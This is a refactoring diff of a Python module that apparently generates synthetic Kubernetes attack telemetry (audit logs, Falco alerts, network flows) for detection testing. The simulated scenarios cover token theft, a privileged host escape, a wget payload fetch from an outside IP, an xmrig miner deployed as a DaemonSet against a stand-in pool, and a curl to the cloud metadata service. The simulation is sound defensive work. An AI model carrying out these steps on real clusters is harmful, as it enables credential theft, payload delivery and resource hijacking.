@@ -3,46 +3,28 @@
 from __future__ import annotations
 
 from keelwatch.simulate import manifests
-from keelwatch.simulate.audit_traffic import CONTROLLER_AGENT
-from keelwatch.simulate.cluster import KUBECTL_AGENT, Pod, Workload, service_account
-from keelwatch.simulate.records import falco_process_fields, rbac_reason
-from keelwatch.simulate.runtime_records import WORLD
+from keelwatch.simulate.api_calls import (
+    ADMIN_REASON,
+    DEVELOPER_REASON,
+    caller,
+    ci_deployer,
+    controller,
+    created,
+    exec_into,
+    kubectl,
+)
+from keelwatch.simulate.cluster import KUBECTL_AGENT, Workload, service_account
+from keelwatch.simulate.records import (
+    CLOUD_METADATA,
+    PRIVILEGED_CONTAINER,
+    STRATUM_MINER,
+    falco_process_fields,
+    rbac_reason,
+)
 from keelwatch.simulate.scenarios import Stage, scenario
+from keelwatch.simulate.scenarios.steps import egress, terminal_shell
 
-ADMIN_REASON = rbac_reason("platform-admins", "cluster-admin", 'Group "platform-admins"')
 TOKEN_PATH = "/var/run/secrets/kubernetes.io/serviceaccount/token"  # noqa: S105 - a path
-SHELL_TAGS = ["T1059", "container", "maturity_stable", "mitre_execution", "shell"]
-
-
-def _controller(stage: Stage, name: str) -> dict[str, object]:
-    identity = service_account("kube-system", name, stage.ids)
-    agent = CONTROLLER_AGENT.format(name)
-    return dict(
-        user=identity,
-        source_ip="10.0.0.10",
-        user_agent=agent,
-        reason=rbac_reason(
-            f"system:controller:{name}",
-            f"system:controller:{name}",
-            f'ServiceAccount "{name}/kube-system"',
-        ),
-    )
-
-
-def _egress(
-    stage: Stage, seconds: float, pod: Pod, ip: str, port: int, names: list[str] | None = None
-) -> None:
-    stage.flow(
-        seconds,
-        node=pod.node,
-        source=pod,
-        destination=WORLD,
-        source_ip=pod.ip,
-        destination_ip=ip,
-        source_port=stage.port(),
-        destination_port=port,
-        destination_names=names,
-    )
 
 
 @scenario(
@@ -66,7 +48,7 @@ def token_theft(stage: Stage) -> None:
         uid=1000,
         cwd="/app",
     )
-    _egress(stage, 1.2, pod, ip, 443)
+    egress(stage, 1.2, pod, ip, 443)
     identity = pod.sa_identity(stage.ids)
     requests = (
         ("create", "selfsubjectrulesreviews", None, "authorization.k8s.io", 201),
@@ -74,24 +56,27 @@ def token_theft(stage: Stage) -> None:
         ("list", "pods", None, "", 403),
         ("get", "configmaps", pod.namespace, "", 200),
     )
+    thief = caller(
+        identity,
+        ip,
+        "python-requests/2.31.0",
+        rbac_reason(
+            f"{pod.workload}-reader",
+            "view",
+            f'ServiceAccount "{pod.service_account}/{pod.namespace}"',
+            cluster=False,
+        ),
+    )
     for step, (verb, resource, namespace, group, code) in enumerate(requests):
         stage.audit(
             120 + step * 4,
             verb=verb,
-            user=identity,
-            source_ip=ip,
-            user_agent="python-requests/2.31.0",
             resource=resource,
             namespace=namespace,
             group=group,
             code=code,
             name="app-config" if verb == "get" else None,
-            reason=rbac_reason(
-                f"{pod.workload}-reader",
-                "view",
-                f'ServiceAccount "{pod.service_account}/{pod.namespace}"',
-                cluster=False,
-            ),
+            **thief,
         )
 
 
@@ -125,45 +110,14 @@ def host_escape(stage: Stage) -> None:
             [container], host_pid=True, host_network=True, volumes=volumes, restart="Never"
         ),
     )
-    stage.audit(
-        0,
-        verb="create",
-        user=human.identity,
-        source_ip=human.source_ip,
-        user_agent=KUBECTL_AGENT,
-        resource="pods",
-        namespace=namespace,
-        code=201,
-        request_object=body,
-        reason=rbac_reason("developers-edit", "edit", 'Group "developers"', cluster=False),
-    )
+    developer = kubectl(human, DEVELOPER_REASON)
+    stage.audit(0, **created("pods", body), **developer)
     fields = falco_process_fields(
         pod, command="sleep infinity", exe="/bin/sleep", parent="containerd-shim", pid=1
     )
     fields["container.privileged"] = True
-    stage.falco(
-        6,
-        rule="Launch Privileged Container",
-        priority="Info",
-        text="Privileged container started",
-        fields=fields,
-        tags=["T1610", "cis", "container", "maturity_incubating", "mitre_execution"],
-        hostname=pod.node.name,
-    )
-    stage.audit(
-        20,
-        verb="create",
-        user=human.identity,
-        source_ip=human.source_ip,
-        user_agent=KUBECTL_AGENT,
-        resource="pods",
-        namespace=namespace,
-        name=pod.name,
-        subresource="exec",
-        code=101,
-        query="command=sh&container=debug&stdin=true&stdout=true&tty=true",
-        reason=rbac_reason("developers-edit", "edit", 'Group "developers"', cluster=False),
-    )
+    stage.falco(6, PRIVILEGED_CONTAINER, pod, fields)
+    stage.audit(20, **exec_into(pod, "sh", container="debug"), **developer)
     stage.exec(21, pod, binary="/bin/sh", arguments="", parent_binary="/usr/bin/runc")
     stage.exec(
         30,
@@ -188,34 +142,8 @@ def exec_shell_egress(stage: Stage) -> None:
     human = stage.developer()
     pod = stage.pod("http")
     ip = stage.public_ip()
-    stage.audit(
-        0,
-        verb="create",
-        user=human.identity,
-        source_ip=human.source_ip,
-        user_agent=KUBECTL_AGENT,
-        resource="pods",
-        namespace=pod.namespace,
-        name=pod.name,
-        subresource="exec",
-        code=101,
-        query=f"command=%2Fbin%2Fbash&container={pod.container}&stdin=true&stdout=true&tty=true",
-        reason=rbac_reason("developers-edit", "edit", 'Group "developers"', cluster=False),
-    )
-    fields = falco_process_fields(
-        pod, command="bash", exe="/bin/bash", parent="runc", pid=stage.rng.randrange(100, 9000)
-    )
-    fields["proc.tty"] = 34816
-    stage.falco(
-        1,
-        rule="Terminal shell in container",
-        priority="Notice",
-        text="A shell was spawned in a container with an attached terminal",
-        fields=fields,
-        tags=SHELL_TAGS,
-        hostname=pod.node.name,
-    )
-    stage.exec(1, pod, binary="/bin/bash", arguments="", parent_binary="/usr/bin/runc")
+    stage.audit(0, **exec_into(pod, "%2Fbin%2Fbash"), **kubectl(human, DEVELOPER_REASON))
+    terminal_shell(stage, 1, pod, "/bin/bash")
     stage.exec(
         25,
         pod,
@@ -223,7 +151,7 @@ def exec_shell_egress(stage: Stage) -> None:
         arguments=f"-qO /tmp/.x http://{ip}:8000/x",
         parent_binary="/bin/bash",
     )
-    _egress(stage, 25.3, pod, ip, 8000)
+    egress(stage, 25.3, pod, ip, 8000)
 
 
 @scenario(
@@ -244,16 +172,8 @@ def cryptominer(stage: Stage) -> None:
     body = manifests.workload("DaemonSet", "node-agent", "kube-system", spec)
     stage.audit(
         0,
-        verb="create",
-        user=human.identity,
-        source_ip=stage.public_ip(),
-        user_agent=KUBECTL_AGENT,
-        resource="daemonsets",
-        namespace="kube-system",
-        group="apps",
-        code=201,
-        request_object=body,
-        reason=ADMIN_REASON,
+        **created("daemonsets", body),
+        **caller(human.identity, stage.public_ip(), KUBECTL_AGENT, ADMIN_REASON),
     )
     miner = Workload("node-agent", "kube-system", "DaemonSet", "miner", image, 0, "default")
     for number, node in enumerate(stage.cluster.workers[:3]):
@@ -262,15 +182,8 @@ def cryptominer(stage: Stage) -> None:
         pod_body = manifests.pod(
             None, "kube-system", spec, {"app": "node-agent"}, generate_name="node-agent-"
         )
-        stage.audit(
-            at - 4,
-            verb="create",
-            resource="pods",
-            namespace="kube-system",
-            code=201,
-            request_object=pod_body,
-            **_controller(stage, "daemon-set-controller"),
-        )
+        daemon_sets = service_account("kube-system", "daemon-set-controller", stage.ids)
+        stage.audit(at - 4, **created("pods", pod_body), **controller(daemon_sets, rbac=True))
         started = stage.exec(
             at,
             pod,
@@ -279,32 +192,16 @@ def cryptominer(stage: Stage) -> None:
             parent_binary="/usr/bin/containerd-shim-runc-v2",
         )
         stage.connect(at + 0.5, started, source=(pod.ip, stage.port()), destination=(ip, 3333))
-        _egress(stage, at + 0.6, pod, ip, 3333, ["pool.minexmr.example"])
+        egress(stage, at + 0.6, pod, ip, 3333, ["pool.minexmr.example"])
         fields = falco_process_fields(
             pod,
             command=f"xmrig {' '.join(args)}",
             exe="/xmrig/xmrig",
             parent="containerd-shim",
             pid=1,
+            connection={"fd.sip": ip, "fd.sport": 3333, "fd.l4proto": "tcp", "fd.type": "ipv4"},
         )
-        fields.update(
-            {
-                "evt.type": "connect",
-                "fd.sip": ip,
-                "fd.sport": 3333,
-                "fd.l4proto": "tcp",
-                "fd.type": "ipv4",
-            }
-        )
-        stage.falco(
-            at + 1,
-            rule="Detect crypto miners using the Stratum protocol",
-            priority="Critical",
-            text="Possible miner running",
-            fields=fields,
-            tags=["T1496", "maturity_stable", "mitre_impact", "process"],
-            hostname=node.name,
-        )
+        stage.falco(at + 1, STRATUM_MINER, pod, fields)
 
 
 @scenario(
@@ -324,16 +221,7 @@ def unknown_registry(stage: Stage) -> None:
         [manifests.container("netcheck", image, command=["/bin/sh", "-c", "sleep 3600"])]
     )
     stage.audit(
-        0,
-        verb="create",
-        user=identity,
-        source_ip="10.30.4.17",
-        user_agent=KUBECTL_AGENT,
-        resource="pods",
-        namespace=namespace,
-        code=201,
-        request_object=manifests.pod(pod.name, namespace, spec),
-        reason=rbac_reason("ci-deployer", "edit", 'ServiceAccount "deployer/ci"', cluster=False),
+        0, **created("pods", manifests.pod(pod.name, namespace, spec)), **ci_deployer(identity)
     )
     stage.exec(
         12,
@@ -364,6 +252,13 @@ def metadata_access(stage: Stage) -> None:
         uid=1000,
         cwd="/app",
     )
+    connection = {
+        "fd.sip": "169.254.169.254",
+        "fd.sport": 80,
+        "fd.type": "ipv4",
+        "fd.l4proto": "tcp",
+        "fd.cip": pod.ip,
+    }
     fields = falco_process_fields(
         pod,
         command=f"curl -s {url}",
@@ -372,33 +267,7 @@ def metadata_access(stage: Stage) -> None:
         pid=stage.rng.randrange(100, 9000),
         user="app",
         uid=1000,
+        connection=connection,
     )
-    fields.update(
-        {
-            "evt.type": "connect",
-            "fd.sip": "169.254.169.254",
-            "fd.sport": 80,
-            "fd.type": "ipv4",
-            "fd.l4proto": "tcp",
-            "fd.cip": pod.ip,
-        }
-    )
-    stage.falco(
-        0.1,
-        rule="Contact cloud metadata service from container",
-        priority="Notice",
-        text="Outbound connection to cloud instance metadata service",
-        fields=fields,
-        tags=["T1552.005", "container", "maturity_sandbox", "mitre_credential_access", "network"],
-        hostname=pod.node.name,
-    )
-    stage.flow(
-        0.1,
-        node=pod.node,
-        source=pod,
-        destination=WORLD,
-        source_ip=pod.ip,
-        destination_ip="169.254.169.254",
-        source_port=stage.port(),
-        destination_port=80,
-    )
+    stage.falco(0.1, CLOUD_METADATA, pod, fields)
+    egress(stage, 0.1, pod, "169.254.169.254", 80)
